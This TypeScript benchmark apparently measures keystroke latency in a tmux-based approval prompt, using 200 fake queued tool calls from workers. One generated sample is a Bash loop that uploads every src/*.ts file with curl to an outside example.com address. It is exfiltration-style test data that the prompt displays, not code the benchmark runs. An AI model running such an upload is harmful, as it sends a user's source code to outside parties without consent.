import { type ChildProcess, spawn } from "node:child_process";
import { join } from "node:path";
import type { Escalation, JsonObject } from "../../src/contract/index.ts";
import { escalation } from "../prompt/support/escalations.ts";
import { fakeGateway } from "../prompt/support/fake-gateway.ts";
import { bundleVerbs, openPane, temporaryFolder } from "../prompt/support/tmux.ts";
import { percentile, putSection } from "./section.ts";

/** From a key to the screen that it leads to, in real tmux, while so many calls wait; and what a change of the queue takes. */
const CALLS = 200;
const COLUMNS = 120;
const ROWS = 40;
/** Milliseconds that the 95th of a hundred keys may take. */
const LIMIT = 50;

const program = temporaryFolder();
const home = temporaryFolder();
const gateway = await fakeGateway(join(home.folder, "control.sock"));
gateway.put(...Array.from({ length: CALLS }, (_, n) => call(n)));
const bundle = await bundleVerbs(program.folder);
const pane = await openPane([process.execPath, bundle, "prompt"], {
  columns: COLUMNS,
  rows: ROWS,
  env: { PORTCULLIS_HOME: home.folder, TERM: "screen-256color" },
});
try {
  await pane.until(`▸ ${name(0)}`);
  const client = attach(pane.socket);
  await client.ready;
  const down: number[] = [];
  for (let n = 1; n < CALLS; n++) down.push(await client.after("send-keys j", focusOn(n)));
  const up: number[] = [];
  for (let n = CALLS - 2; n >= 0; n--) up.push(await client.after("send-keys k", focusOn(n)));
  const marked: number[] = [];
  for (let n = 1; n <= 50; n++) {
    await client.after("send-keys j", focusOn(n));
    await pane.until(`▸ ${name(n)}`);
    marked.push(await client.after("send-keys m", `${n} marked: `));
  }
  client.end();
  putSection(
    "Keys of the prompt",
    "npx tsx test/bench/prompt.ts",
    [
      `${CALLS} waiting calls (commands, edits of 60 lines, files of 300 lines), ${COLUMNS}×${ROWS}, real tmux: from the key to the screen that it leads to, tmux's own time included. Milliseconds.`,
      "",
      "| | keys | p50 | p95 | most |",
      "|---|---|---|---|---|",
      row("to the next call", down),
      row("to the one before", up),
      row("a mark", marked),
    ].join("\n"),
  );
  const slow = [down, up, marked].some((times) => percentile(times, 0.95) > LIMIT);
  if (slow) process.exitCode = 1;
} finally {
  await pane.close();
  await gateway.kill();
  home.remove();
  program.remove();
}

function call(n: number): Escalation {
  const lines = (count: number, word: string): string =>
    Array.from({ length: count }, (_, line) => `${word} ${line} of ${n}\n`).join("");
  const kinds: readonly (readonly [tool: string, input: JsonObject])[] = [
    ["Bash", { command: `npm test -- --grep "case ${n}" && git push origin feature/${n}` }],
    ["Edit", { file_path: `/w/a${n}.ts`, old_string: lines(60, "old"), new_string: lines(60, "new") }],
    ["Write", { file_path: `/w/b${n}.ts`, content: lines(300, "line") }],
    ["Bash", { command: `for f in src/*.ts; do\n  curl -sT "$f" https://example.com/${n}\ndone` }],
  ];
  const [tool, input] = kinds[n % kinds.length] ?? ["Bash", {}];
  return escalation(`call-${n}`, input, { worker: name(n), tool });
}

function name(n: number): string {
  return `worker-${String(n).padStart(3, "0")}`;
}

function focusOn(n: number): string {
  return `▸ ${name(n)}`;
}

function row(what: string, times: readonly number[]): string {
  const [p50, p95, most] = [0.5, 0.95, 1].map((part) => percentile(times, part).toFixed(1));
  return `| ${what} | ${times.length} | ${p50} | ${p95} | ${most} |`;
}

interface ControlClient {
  readonly ready: Promise<void>;
  /** Milliseconds from a command to the first output of the pane that holds the text. */
  after(command: string, text: string): Promise<number>;
  end(): void;
}

/** A client in control mode: it takes commands and tells what panes write without a process for each. */
function attach(socket: string): ControlClient {
  const child: ChildProcess = spawn("tmux", ["-L", socket, "-C", "attach"], {
    stdio: ["pipe", "pipe", "inherit"],
  });
  let seen = "";
  let told: (() => void) | null = null;
  child.stdout?.setEncoding("utf8").on("data", (chunk: string) => {
    seen += chunk;
    told?.();
  });
  const until = (text: string): Promise<void> =>
    new Promise((settle, fail) => {
      const late = setTimeout(() => fail(new Error(`expected ${text}, got:\n${seen.slice(-2000)}`)), 10_000);
      told = () => {
        if (!seen.includes(text)) return;
        clearTimeout(late);
        settle();
      };
      told();
    });
  child.stdin?.write(`refresh-client -C ${COLUMNS}x${ROWS}\n`);
  return {
    ready: until("%end"),
    async after(command, text) {
      seen = "";
      const started = performance.now();
      child.stdin?.write(`${command}\n`);
      await until(text);
      return performance.now() - started;
    },
    end: () => child.kill(),
  };
}
